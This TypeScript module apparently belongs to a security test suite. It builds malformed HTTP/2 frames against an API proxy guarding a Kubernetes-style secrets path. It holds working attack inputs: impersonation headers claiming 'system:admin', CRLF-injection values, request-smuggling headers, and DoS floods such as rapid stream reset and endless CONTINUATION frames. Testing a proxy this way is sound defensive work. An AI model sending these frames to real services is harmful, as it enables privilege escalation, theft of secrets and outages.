// Frames of HTTP/2 (RFC 9113) as no client sends them: pseudo-headers out of place, headers that belong to
// connections, floods. Headers are literals of HPACK without an index (RFC 7541 section 6.2.2).

import type { Attacked } from "./attack.ts";

export interface Http2Attempt {
  readonly id: string;
  bytes(at: Attacked): Buffer;
}

type Header = readonly [name: string, value: string];

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const DATA = 0x0;
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const PING = 0x6;
const WINDOW_UPDATE = 0x8;
const CONTINUATION = 0x9;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
const SECRET = "/prod/api/v1/namespaces/shop/secrets/s1";
const CONFIGMAPS = "/prod/api/v1/namespaces/shop/configmaps";

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Section 5.1 of RFC 7541, with a prefix of seven bits. */
function length(size: number): Buffer {
  if (size < 127) return Buffer.of(size);
  const bytes = [127];
  let left = size - 127;
  for (; left >= 128; left = Math.floor(left / 128)) bytes.push((left % 128) + 128);
  return Buffer.from([...bytes, left]);
}

function block(headers: readonly Header[]): Buffer {
  const word = (text: string) => {
    const bytes = Buffer.from(text, "latin1");
    return Buffer.concat([length(bytes.length), bytes]);
  };
  return Buffer.concat(headers.flatMap(([name, value]) => [Buffer.of(0), word(name), word(value)]));
}

const begin = Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]);

const request = (at: Attacked, path = SECRET, method = "GET"): Header[] => [
  [":method", method],
  [":scheme", "https"],
  [":authority", `${at.host}:${at.port}`],
  [":path", path],
  ["authorization", `Bearer ${at.token}`],
];

const opened = (headers: readonly Header[], stream = 1, flags = END_STREAM | END_HEADERS) =>
  frame(HEADERS, flags, stream, block(headers));

const asked = (id: string, headers: (own: Header[]) => readonly Header[]): Http2Attempt => ({
  id,
  bytes: (at) => Buffer.concat([begin, opened(headers(request(at)))]),
});

const HEADER_TRICKS: readonly Http2Attempt[] = [
  ...(
    [
      [":path", "/prod/version"],
      [":method", "POST"],
      [":authority", "elsewhere"],
      [":scheme", "http"],
      [":status", "200"],
      [":protocol", "websocket"],
      [":unknown", "x"],
      ["host", "elsewhere"],
      ["Impersonate-User", "system:admin"],
      ["impersonate-user", "system:admin"],
      ["impersonate-user ", "system:admin"],
      ["impersonate-user\0", "system:admin"],
      ["x-a", "b\r\nimpersonate-user: system:admin"],
      ["x-a", "b\nimpersonate-user: system:admin"],
      ["connection", "authorization"],
      ["connection", "upgrade"],
      ["upgrade", "websocket"],
      ["transfer-encoding", "chunked"],
      ["te", "chunked"],
      ["keep-alive", "1"],
      ["proxy-connection", "keep-alive"],
      ["content-length", "5"],
      ["content-length", "-1"],
      ["expect", "100-continue"],
      ["cookie", "a=b"],
      ["authorization", "Bearer x"],
      ["", "x"],
    ] as const
  ).map((header) =>
    asked(`the header ${JSON.stringify(header.join(": "))}`, (own) => [...own, header]),
  ),
  ...(
    [
      [":path", "secrets"],
      [":path", ""],
      [":path", "*"],
      [":path", `https://127.0.0.1${SECRET}`],
      [":path", `${SECRET}#x`],
      [":path", `${SECRET}\r\nimpersonate-user: x`],
      [":path", `/${SECRET}`],
      [":method", "get"],
      [":method", "CONNECT"],
      [":method", "GET HTTP/1.1\r\nx: y"],
      [":scheme", "ftp"],
      [":authority", ""],
    ] as const
  ).map(([name, value]) =>
    asked(`${name} as ${JSON.stringify(value)}`, (own) =>
      own.map((one) => (one[0] === name ? ([name, value] as const) : one)),
    ),
  ),
  asked("no path", (own) => own.filter(([name]) => name !== ":path")),
  asked("pseudo-headers last", (own) => [...own].reverse()),
  asked("more headers than there are", (own) => [
    ...own,
    ...Array.from({ length: 500 }, (_, index): Header => [`x-${index}`, "y"]),
  ]),
];

const many = (count: number, make: (index: number) => Buffer) =>
  Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));

const FLOODS: readonly Http2Attempt[] = [
  {
    id: "streams reset as they are opened",
    bytes: (at) => {
      const headers = block(request(at));
      return Buffer.concat([
        begin,
        many(3000, (index) => {
          const stream = index * 2 + 1;
          const reset = frame(RST_STREAM, 0, stream, Buffer.of(0, 0, 0, 8));
          return Buffer.concat([frame(HEADERS, END_STREAM | END_HEADERS, stream, headers), reset]);
        }),
      ]);
    },
  },
  {
    id: "pings",
    bytes: () => Buffer.concat([begin, many(20_000, () => frame(PING, 0, 0, Buffer.alloc(8)))]),
  },
  {
    id: "settings",
    bytes: () => Buffer.concat([begin, many(20_000, () => frame(SETTINGS, 0, 0, Buffer.alloc(0)))]),
  },
  {
    id: "empty pieces of a body",
    bytes: (at) =>
      Buffer.concat([
        begin,
        opened(request(at, CONFIGMAPS, "POST"), 1, END_HEADERS),
        many(20_000, () => frame(DATA, 0, 1, Buffer.alloc(0))),
      ]),
  },
  {
    id: "headers that go on and on",
    bytes: (at) =>
      Buffer.concat([
        begin,
        frame(HEADERS, END_STREAM, 1, block(request(at))),
        many(300, (index) => frame(CONTINUATION, 0, 1, block([[`x-${index}`, "y".repeat(8000)]]))),
      ]),
  },
  {
    id: "a window beyond its bounds",
    bytes: (at) =>
      Buffer.concat([
        begin,
        opened(request(at)),
        many(3, () => frame(WINDOW_UPDATE, 0, 0, Buffer.of(0x7f, 0xff, 0xff, 0xff))),
      ]),
  },
  {
    id: "a body longer and shorter than it says",
    bytes: (at) =>
      Buffer.concat(
        [begin].concat(
          ["1", "1000"].map((size, index) => {
            const headers: Header[] = [
              ...request(at, CONFIGMAPS, "POST"),
              ["content-length", size],
              ["content-type", "application/json"],
            ];
            const body = Buffer.from(`{"metadata":{"name":"own"}}`);
            const stream = index * 2 + 1;
            return Buffer.concat([
              opened(headers, stream, END_HEADERS),
              frame(DATA, END_STREAM, stream, body),
            ]);
          }),
        ),
      ),
  },
  {
    id: "a number of a stream twice",
    bytes: (at) => Buffer.concat([begin, opened(request(at)), opened(request(at, CONFIGMAPS))]),
  },
  {
    id: "a block of headers cut by another stream's",
    bytes: (at) =>
      Buffer.concat([begin, frame(HEADERS, 0, 1, block(request(at))), opened(request(at), 3)]),
  },
  { id: "no preface", bytes: (at) => opened(request(at)) },
  {
    id: "a request of HTTP/1.1",
    bytes: ({ token }) =>
      Buffer.from(`GET ${SECRET} HTTP/1.1\r\nAuthorization: Bearer ${token}\r\n\r\n`),
  },
];

/** What is asked of it is given: the frames themselves are well-formed. */
export const PLAIN_REQUEST = asked("a request", (own) => own);

export const HTTP2_ATTEMPTS: readonly Http2Attempt[] = [...HEADER_TRICKS, ...FLOODS];
